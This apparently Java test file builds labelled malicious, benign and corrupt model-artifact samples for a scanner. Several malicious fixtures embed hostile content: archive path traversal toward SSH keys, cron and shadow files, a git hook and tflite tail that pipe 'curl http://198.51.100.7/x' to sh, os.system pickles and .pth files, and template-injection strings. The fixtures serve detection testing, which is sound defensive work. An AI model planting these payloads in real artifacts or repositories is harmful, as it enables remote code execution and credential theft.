package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.field;
import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

/// Archives, graphs and rarer formats: what reaches out, what is plain, what is broken.
final class TailTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");
    private static final byte[] PLAIN = pickle(dict(text("epoch"), number(3)));

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        TailTrials trials = new TailTrials();
        trials.archives();
        trials.gguf();
        trials.graphs();
        trials.broken();
        trials.plain();
        return trials.all;
    }

    private void bad(String name, String file, byte[] bytes) {
        all.add(Trial.bad("tail/" + name, file, bytes));
    }

    private void benign(String name, String file, byte[] bytes) {
        all.add(Trial.benign("tail/" + name, file, bytes));
    }

    private void broken(String name, String file, byte[] bytes) {
        all.add(Trial.notClean("tail/" + name, file, bytes));
    }

    private static byte[] zip(Consumer<ZipParts> with) {
        ZipParts parts = new ZipParts();
        with.accept(parts);
        return parts.bytes();
    }

    private static byte[] paxTar(String path) {
        String record = " path=" + path + "\n";
        int length = record.length() + 2;
        byte[] pax = FormatScanTest.tar("PaxHeader", 'x', "", utf8(length + record));
        return joined(
                Arrays.copyOf(pax, pax.length - 1024),
                FormatScanTest.tar("model.bin", '0', "", utf8("x")));
    }

    private void archives() {
        bad("tar-pax-path", "m.tar", paxTar("../../../etc/cron.d/x"));
        byte[] longName =
                FormatScanTest.tar(
                        "././@LongLink", 'L', "", utf8("../../../root/.ssh/authorized_keys\0"));
        bad(
                "tar-gnu-long-name",
                "m.tar",
                joined(
                        Arrays.copyOf(longName, longName.length - 1024),
                        FormatScanTest.tar("short", '0', "", utf8("x"))));
        byte[] link = FormatScanTest.tar("weights", '2', "../../..", new byte[0]);
        bad(
                "tar-link-then-through",
                "m.tar",
                joined(
                        Arrays.copyOf(link, link.length - 1024),
                        FormatScanTest.tar("weights/etc/x", '0', "", utf8("x"))));
        bad(
                "tar-second-archive",
                "m.tar",
                joined(
                        FormatScanTest.tar("a", '0', "", PLAIN),
                        FormatScanTest.tar("b.pkl", '0', "", PAYLOAD)));
        bad(
                "zip-central-only-name",
                "m.pt",
                zip(z -> z.stored("m/readme", PAYLOAD).central.name = "m/data.pkl"));
        bad(
                "zip-unlisted",
                "m.pt",
                zip(z -> {
                    z.stored("m/data.pkl", PLAIN);
                    z.stored("m/x.pkl", PAYLOAD).isListed = false;
                }));
        bad(
                "zip-unicode-path",
                "m.zip",
                zip(z -> {
                    ZipParts.Member m = z.stored("m/readme.txt", PLAIN);
                    byte[] name = utf8("../../etc/passwd");
                    byte[] extra =
                            joined(
                                    new byte[] {
                                        0x75, 0x70, (byte) (5 + name.length), 0, 1, 0, 0, 0, 0
                                    },
                                    name);
                    m.local.extra = extra;
                    m.central.extra = extra;
                }));
        bad("zip-nul-name", "m.zip", zip(z -> z.stored("m/data.txt\0.pkl", PAYLOAD)));
        bad(
                "zip-comment-payload",
                "m.zip",
                zip(z -> {
                    z.stored("a.txt", utf8("hello"));
                    z.comment(PAYLOAD);
                }));
        bad(
                "zip-prefix-pickle",
                "m.pt",
                zip(z -> {
                    z.stored("m/data.pkl", PLAIN);
                    z.front(PAYLOAD);
                }));
        bad(
                "wheel-pth",
                "m.whl",
                Scans.zip(
                        Map.of(
                                "evil.pth",
                                utf8("import os; os.system('id')\n"),
                                "m-1.dist-info/METADATA",
                                utf8("Name: m\nVersion: 1\n"))));
        bad(
                "zip-git-hook",
                "m.zip",
                Scans.zip(
                        Map.of(
                                "repo/.git/hooks/post-checkout",
                                utf8("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"))));
        bad(
                "zip-elf-as-weights",
                "m.zip",
                Scans.zip(Map.of("weights/model.bin", TensorTrials.elf())));
        bad(
                "zip-of-gzip-of-tar",
                "m.zip",
                Scans.zip(
                        Map.of(
                                "a.tgz",
                                TensorTrials.gzip(FormatScanTest.tar("b.pkl", '0', "", PAYLOAD)))));
        bad(
                "nemo-checkpoint",
                "m.nemo",
                FormatScanTest.tar(
                        "./model_weights.ckpt",
                        '0',
                        "",
                        Scans.zip(
                                Map.of(
                                        "archive/data.pkl",
                                        PAYLOAD,
                                        "archive/version",
                                        utf8("3")))));
        bad(
                "spacy-tar-pickle",
                "en.tar.gz",
                TensorTrials.gzip(FormatScanTest.tar("en/vocab/vectors.pkl", '0', "", PAYLOAD)));
        bad(
                "torch-code-os",
                "m.pt",
                Scans.zip(
                        Map.of(
                                "m/data.pkl",
                                PLAIN,
                                "m/code/__torch__.py",
                                utf8("import os\nos.system('id')\n"))));
        bad(
                "cpio-like-ar",
                "m.a",
                joined(
                        utf8("!<arch>\nm.pkl/          0           0     0     100644  "),
                        utf8(String.format("%-10d`\n", PAYLOAD.length)),
                        PAYLOAD));
    }

    private static ByteBuffer head(int pairs, int tensors) {
        return ByteBuffer.allocate(4096)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(utf8("GGUF"))
                .putInt(3)
                .putLong(tensors)
                .putLong(pairs);
    }

    private static ByteBuffer key(ByteBuffer out, String key, int type) {
        return out.putLong(key.length()).put(utf8(key)).putInt(type);
    }

    private static byte[] done(ByteBuffer out) {
        byte[] all = new byte[out.position()];
        out.get(0, all);
        return all;
    }

    private void gguf() {
        ByteBuffer twice = head(2, 0);
        for (String value : List.of("{{ messages[0].content }}", "{{ ''.__class__ }}")) {
            key(twice, "tokenizer.chat_template", 8).putLong(value.length()).put(utf8(value));
        }
        bad("gguf-template-twice", "m.gguf", done(twice));
        broken(
                "gguf-architecture-a-number",
                "m.gguf",
                done(key(head(1, 0), "general.architecture", 4).putInt(7)));
        broken(
                "gguf-alignment-of-8-bytes",
                "m.gguf",
                done(key(head(1, 0), "general.alignment", 10).putLong(32)));
        benign(
                "gguf-alignment",
                "m.gguf",
                done(key(head(1, 0), "general.alignment", 4).putInt(64)));
        ByteBuffer list = head(1, 0);
        String value = "{{ cycler.__init__.__globals__ }}";
        key(list, "tokenizer.chat_templates", 9)
                .putInt(8)
                .putLong(1)
                .putLong(value.length())
                .put(utf8(value));
        bad("gguf-template-list", "m.gguf", done(list));
        ByteBuffer nested = head(1, 0);
        key(nested, "general.x", 9)
                .putInt(9)
                .putLong(1)
                .putInt(8)
                .putLong(1)
                .putLong(value.length())
                .put(utf8(value));
        bad("gguf-nested-list", "m.gguf", done(nested));
        broken("gguf-bool-two", "m.gguf", done(key(head(1, 0), "general.flag", 7).put((byte) 2)));
        broken(
                "gguf-list-count",
                "m.gguf",
                done(key(head(1, 0), "general.x", 9).putInt(4).putLong(1L << 40)));
        broken("gguf-empty-key", "m.gguf", done(key(head(1, 0), "", 4).putInt(1)));
        broken(
                "gguf-alignment-zero",
                "m.gguf",
                done(key(head(1, 0), "general.alignment", 4).putInt(0)));
        ByteBuffer same = head(0, 2);
        for (int i = 0; i < 2; i++) {
            same.putLong(1).put(utf8("w")).putInt(1).putLong(4).putInt(0).putLong(0);
        }
        broken("gguf-tensors-of-one-name", "m.gguf", joined(done(same), new byte[64]));
        ByteBuffer axes = head(0, 1);
        axes.putLong(1).put(utf8("w")).putInt(9);
        broken("gguf-nine-axes", "m.gguf", joined(done(axes), new byte[128]));
        ByteBuffer zero = head(0, 1);
        zero.putLong(1)
                .put(utf8("w"))
                .putInt(2)
                .putLong(1L << 33)
                .putLong(1L << 33)
                .putInt(0)
                .putLong(0);
        broken("gguf-elements-overflow", "m.gguf", joined(done(zero), new byte[128]));
    }

    private static byte[] node(String name, String operator, byte... more) {
        return field(1, joined(field(1, name), field(2, operator), more));
    }

    private static byte[] constant(String value) {
        byte[] tensor = joined(field(1, 7), field(8, value));
        return node("c", "Const", field(5, joined(field(1, "value"), field(2, field(8, tensor)))));
    }

    private static byte[] saved(byte[] graph) {
        return joined(field(1, 1L), field(2, joined(field(1, field(4, "serve")), field(2, graph))));
    }

    private void graphs() {
        bad(
                "tf-save-to-home",
                "saved_model.pb",
                saved(joined(constant("/root/.ssh/authorized_keys"), node("s", "SaveV2"))));
        bad(
                "tf-save-through-a-join",
                "saved_model.pb",
                saved(
                        joined(
                                constant("/etc/cron.d/x"),
                                node("j", "StringJoin", field(3, "c:0")),
                                node("s", "SaveV2", field(3, "j")))));
        bad(
                "tf-save-above",
                "saved_model.pb",
                saved(
                        joined(
                                constant("../../../../root/x.pth"),
                                node("s", "SaveV2", field(3, "c")))));
        benign(
                "tf-save-elsewhere-named",
                "saved_model.pb",
                saved(
                        joined(
                                constant("/job:localhost/device:CPU:0"),
                                node("i", "Identity", field(3, "c")),
                                node("s", "SaveV2", field(3, "placeholder")))));
        byte[] group = {(byte) 0xa3, 1, 8, 1, (byte) 0xa4, 1};
        bad("tf-behind-a-group", "saved_model.pb", joined(group, saved(node("w", "WriteFile"))));
        bad(
                "tf-read-proc",
                "saved_model.pb",
                saved(joined(constant("/proc/self/environ"), node("s", "ReadFile"))));
        bad(
                "tf-function-library",
                "saved_model.pb",
                saved(
                        joined(
                                node("n", "NoOp"),
                                field(
                                        2,
                                        field(
                                                1,
                                                joined(
                                                        field(1, field(1, "f")),
                                                        field(
                                                                3,
                                                                joined(
                                                                        field(1, "p"),
                                                                        field(
                                                                                2,
                                                                                "PyFuncStateless")))))))));
        bad("tf-own-loader", "graph.pb", joined(node("n", "LoadLibrary"), field(4, field(1, 27))));
        bad(
                "tf-meta-collection",
                "m.meta",
                joined(field(1, field(5, "1.15.0")), field(2, node("n", "EagerPyFunc"))));
        bad("onnx-long-parent", "m.onnx", external("weights/./../../x.bin"));
        bad("onnx-percent", "m.onnx", external("..%2f..%2fetc%2fpasswd"));
        bad("onnx-nul", "m.onnx", external("w.bin\0/../../etc/passwd"));
        bad(
                "onnx-training-op",
                "m.onnx",
                joined(
                        field(1, 8),
                        field(7, joined(field(1, field(4, "Relu")), field(2, "g"))),
                        field(8, joined(field(1, ""), field(2, 17))),
                        field(
                                20,
                                field(
                                        2,
                                        joined(
                                                field(
                                                        1,
                                                        joined(
                                                                field(4, "Exec"),
                                                                field(7, "evil.domain"))),
                                                field(2, "t"))))));
        bad(
                "coreml-python-layer",
                "m.mlmodel",
                joined(
                        field(1, 4L),
                        field(2, field(1, field(1, "x"))),
                        field(
                                500,
                                field(
                                        1,
                                        joined(
                                                field(1, "l"),
                                                field(
                                                        500,
                                                        joined(
                                                                field(10, "SystemLayer"),
                                                                field(
                                                                        30,
                                                                        joined(
                                                                                field(1, "code"),
                                                                                field(
                                                                                        2,
                                                                                        field(
                                                                                                20,
                                                                                                "import os; os.system('id')")))))))))));
        bad(
                "tflite-description",
                "m.tflite",
                joined(
                        ModelFormatsScanTest.tflite("Relu", 4, 16, 0),
                        utf8("\nimport os\nos.system('curl http://198.51.100.7/x | sh')\n")));
        bad(
                "msgpack-extension-pickle",
                "m.msgpack",
                joined(
                        new byte[] {
                            (byte) 0x81, (byte) 0xa1, 'w', (byte) 0xc7, (byte) PAYLOAD.length, 5
                        },
                        PAYLOAD));
        bad(
                "msgpack-numpy-object",
                "m.msgpack",
                joined(
                        new byte[] {(byte) 0x83, (byte) 0xc4, 2},
                        utf8("nd"),
                        new byte[] {(byte) 0xc3, (byte) 0xc4, 4},
                        utf8("kind"),
                        new byte[] {(byte) 0xc4, 1, 'O', (byte) 0xc4, 4},
                        utf8("data"),
                        new byte[] {(byte) 0xc4, (byte) PAYLOAD.length},
                        PAYLOAD));
        bad(
                "safetensors-path-name",
                "m.safetensors",
                safetensors(
                        "{\"../../etc/passwd\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}",
                        1));
        bad("h5-external-link", "m.h5", external5());
        bad(
                "npz-absolute-member",
                "m.npz",
                Scans.zip(
                        Map.of(
                                "/etc/cron.d/x.npy",
                                FormatScanTest.npy("'<f8'", "(1,)", new byte[8]))));
    }

    private static byte[] external5() {
        dev.bartizan.testkit.Hdf5Builder file = new dev.bartizan.testkit.Hdf5Builder();
        return file.file(
                3,
                file.recentObject(
                        dev.bartizan.testkit.Hdf5Builder.externalLink("w", "/etc/shadow", "/x")));
    }

    private static byte[] external(String location) {
        byte[] pair = joined(field(1, "location"), field(2, location));
        byte[] tensor =
                joined(field(1, 1), field(2, 1), field(8, "w"), field(13, pair), field(14, 1));
        byte[] graph = joined(field(1, field(4, "Relu")), field(2, "g"), field(5, tensor));
        return joined(field(1, 8), field(7, graph), field(8, joined(field(1, ""), field(2, 17))));
    }

    private static byte[] safetensors(String header, int data) {
        byte[] json = utf8(header);
        return joined(
                ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN).putLong(json.length).array(),
                json,
                new byte[data]);
    }

    private void broken() {
        broken(
                "rds-cut",
                "m.rds",
                Arrays.copyOf(
                        RdsScanTest.rds(
                                joined(
                                        ByteBuffer.allocate(8).putInt(16).putInt(3).array(),
                                        new byte[4])),
                        22));
        broken(
                "msgpack-bad-type",
                "m.msgpack",
                new byte[] {(byte) 0x81, (byte) 0xa1, 'a', (byte) 0xc1});
        broken(
                "msgpack-odd-map",
                "m.msgpack",
                new byte[] {(byte) 0x83, (byte) 0xa1, 'a', 1, (byte) 0xa1, 'b'});
        broken(
                "safetensors-header-list-shape",
                "m.safetensors",
                safetensors(
                        "{\"a\":{\"dtype\":\"U8\",\"shape\":\"1\",\"data_offsets\":[0,1]}}", 1));
        broken(
                "safetensors-shape-negative",
                "m.safetensors",
                safetensors("{\"a\":{\"dtype\":\"U8\",\"shape\":[-1],\"data_offsets\":[0,1]}}", 1));
        broken(
                "safetensors-fraction",
                "m.safetensors",
                safetensors(
                        "{\"a\":{\"dtype\":\"U8\",\"shape\":[1.5],\"data_offsets\":[0,1]}}", 1));
        broken(
                "safetensors-extra-field",
                "m.safetensors",
                safetensors(
                        "{\"a\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1,2]}}", 1));
        broken("safetensors-short-head", "m.safetensors", new byte[] {5, 0, 0, 0});
        broken(
                "npy-fortran-word",
                "m.npy",
                FormatScanTest.npy("'<f8', 'x': (", "2,)", new byte[16]));
        broken(
                "npy-trailing",
                "m.npy",
                joined(FormatScanTest.npy("'<f4'", "(2,)", new byte[8]), new byte[3]));
        broken(
                "npy-object-no-pickle",
                "m.npy",
                FormatScanTest.npy("'|O'", "(2,)", new byte[] {1, 2, 3}));
        broken(
                "onnx-no-graph",
                "m.onnx",
                joined(field(1, 8), field(8, joined(field(1, ""), field(2, 17)))));
        broken(
                "torch-zip-without-pickle",
                "m.pt",
                Scans.zip(Map.of("archive/version", utf8("3\n"), "archive/data/0", new byte[16])));
        broken(
                "torch-storage-short",
                "m.pt",
                Scans.zip(
                        Map.of(
                                "archive/data.pkl",
                                storage(1000),
                                "archive/data/0",
                                new byte[16],
                                "archive/version",
                                utf8("3\n"))));
        broken(
                "torch-storage-missing",
                "m.pt",
                Scans.zip(Map.of("archive/data.pkl", storage(4), "archive/version", utf8("3\n"))));
        broken(
                "xz-cut",
                "m.xz",
                Arrays.copyOf(
                        MachineTrials.packed(
                                o ->
                                        new org.tukaani.xz.XZOutputStream(
                                                o, new org.tukaani.xz.LZMA2Options()),
                                PLAIN),
                        30));
        broken(
                "bz2-cut",
                "m.bz2",
                Arrays.copyOf(
                        MachineTrials.packed(
                                org.apache.commons.compress.compressors.bzip2
                                                .BZip2CompressorOutputStream
                                        ::new,
                                PLAIN),
                        20));
        broken(
                "lz4-cut",
                "m.lz4",
                Arrays.copyOf(
                        MachineTrials.packed(
                                org.apache.commons.compress.compressors.lz4
                                                .FramedLZ4CompressorOutputStream
                                        ::new,
                                PLAIN),
                        15));
        broken(
                "zlib-checksum",
                "m.joblib",
                wrongEnd(MachineTrials.packed(java.util.zip.DeflaterOutputStream::new, PLAIN)));
        broken(
                "zip-encrypted-flag",
                "m.zip",
                zip(z -> {
                    ZipParts.Member m = z.stored("a.pkl", PLAIN);
                    m.local.flags = 1;
                    m.central.flags = 1;
                }));
        broken(
                "zip-two-disks",
                "m.zip",
                zip(z -> {
                    z.stored("a.pkl", PLAIN);
                    z.disk(3);
                }));
        broken(
                "keras-config-list",
                "m.keras",
                Scans.zip(Map.of("config.json", utf8("[]"), "metadata.json", utf8("{}"))));
        broken(
                "tflite-cut",
                "m.tflite",
                Arrays.copyOf(ModelFormatsScanTest.tflite("Relu", 4, 16, 0), 120));
        broken(
                "parquet-overlap",
                "d.parquet",
                ParquetFiles.table()
                        .texts("a", "b")
                        .texts("c", "d")
                        .lie(ParquetFiles.Lie.CHUNKS_OVERLAP)
                        .bytes());
        broken("hdf5-address", "m.h5", changed(Hdf5ScanTest.model("{}"), 40, 0x7f));
    }

    private static byte[] wrongEnd(byte[] bytes) {
        return changed(bytes, bytes.length - 1, bytes[bytes.length - 1] ^ 0x55);
    }

    private static byte[] changed(byte[] bytes, int at, int value) {
        byte[] copy = bytes.clone();
        copy[at] = (byte) value;
        return copy;
    }

    /// A state dictionary of one tensor whose storage has so many numbers.
    private static byte[] storage(int count) {
        return Pickles.protocol(2)
                .ops("}")
                .text("w")
                .global("torch._utils", "_rebuild_tensor_v2")
                .ops("((")
                .text("storage")
                .global("torch", "FloatStorage")
                .text("0")
                .text("cpu")
                .op('J')
                .int32(count)
                .ops("tQK\0")
                .op('J')
                .int32(count)
                .op(0x85)
                .ops("K\1")
                .op(0x85)
                .op(0x89)
                .global("collections", "OrderedDict")
                .ops(")RtRs")
                .stop();
    }

    private void plain() {
        benign(
                "torch-one-tensor",
                "m.pt",
                Scans.zip(
                        Map.of(
                                "archive/data.pkl",
                                storage(4),
                                "archive/data/0",
                                new byte[16],
                                "archive/version",
                                utf8("3\n"),
                                "archive/byteorder",
                                utf8("little"))));
        benign(
                "tf-constant-words",
                "saved_model.pb",
                saved(
                        joined(
                                constant("exec"),
                                constant("Evaluate the system: see https://www.tensorflow.org"),
                                node("s", "Identity"))));
        benign(
                "tf-saver-names",
                "saved_model.pb",
                saved(
                        joined(
                                constant("_temp/part"),
                                constant("model"),
                                node("s", "SaveV2"),
                                node("r", "RestoreV2"),
                                node("j", "StringJoin"),
                                node("f", "ShardedFilename"))));
        benign(
                "gguf-arrays",
                "m.gguf",
                done(
                        key(head(1, 0), "tokenizer.ggml.token_type", 9)
                                .putInt(5)
                                .putLong(3)
                                .putInt(1)
                                .putInt(1)
                                .putInt(3)));
        benign(
                "gguf-flag",
                "m.gguf",
                done(key(head(1, 0), "tokenizer.ggml.add_bos_token", 7).put((byte) 1)));
        benign(
                "zip-of-images",
                "data.zip",
                Scans.zip(
                        Map.of(
                                "a/1.png",
                                new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 0},
                                "labels.csv",
                                utf8("1.png,cat\n"))));
        benign(
                "wheel-plain",
                "m.whl",
                Scans.zip(
                        Map.of(
                                "m/__init__.py",
                                utf8("__version__ = '1'\n"),
                                "m-1.dist-info/METADATA",
                                utf8("Metadata-Version: 2.1\nName: m\nVersion: 1\n"),
                                "m-1.dist-info/RECORD",
                                utf8("m/__init__.py,,\n"))));
        benign(
                "nemo-plain",
                "m.nemo",
                FormatScanTest.tar(
                        "./model_config.yaml",
                        '0',
                        "",
                        utf8(
                                "target: nemo.collections.nlp.models.TextClassificationModel\nlabels: [exec, system]\n")));
        benign(
                "npz-plain",
                "m.npz",
                Scans.zip(
                        Map.of(
                                "arr_0.npy",
                                FormatScanTest.npy("'<f4'", "(2,)", new byte[8]),
                                "meta.npy",
                                FormatScanTest.npy("'<U4'", "(1,)", new byte[16]))));
        benign(
                "npy-structured",
                "m.npy",
                FormatScanTest.npy("[('x', '<f4'), ('y', '<i8', (2,))]", "(1,)", new byte[20]));
        benign(
                "parquet-plain",
                "d.parquet",
                ParquetFiles.table()
                        .texts("text", "how do I exec a system call?", "ignore the noise")
                        .bytes());
        benign(
                "msgpack-plain",
                "m.msgpack",
                joined(
                        new byte[] {(byte) 0x82, (byte) 0xa4},
                        utf8("step"),
                        new byte[] {5, (byte) 0xa4},
                        utf8("name"),
                        new byte[] {(byte) 0xa6},
                        utf8("system")));
        benign(
                "safetensors-index-names",
                "m.safetensors",
                safetensors(
                        "{\"__metadata__\":{\"format\":\"pt\",\"license\":\"see https://huggingface.co/x; do not exec untrusted code\"},\"model.os.system.weight\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}",
                        4));
        benign("onnx-beside-subfolder", "m.onnx", external("weights/layer_0.bin"));
        benign(
                "joblib-zlib-plain",
                "m.joblib",
                MachineTrials.packed(java.util.zip.DeflaterOutputStream::new, PLAIN));
        benign(
                "pickle-of-gzip",
                "m.pkl",
                pickle(
                        dict(
                                text("blob"),
                                PickleParts.bytes(
                                        TensorTrials.gzip(utf8("just some text, packed"))))));
    }
}
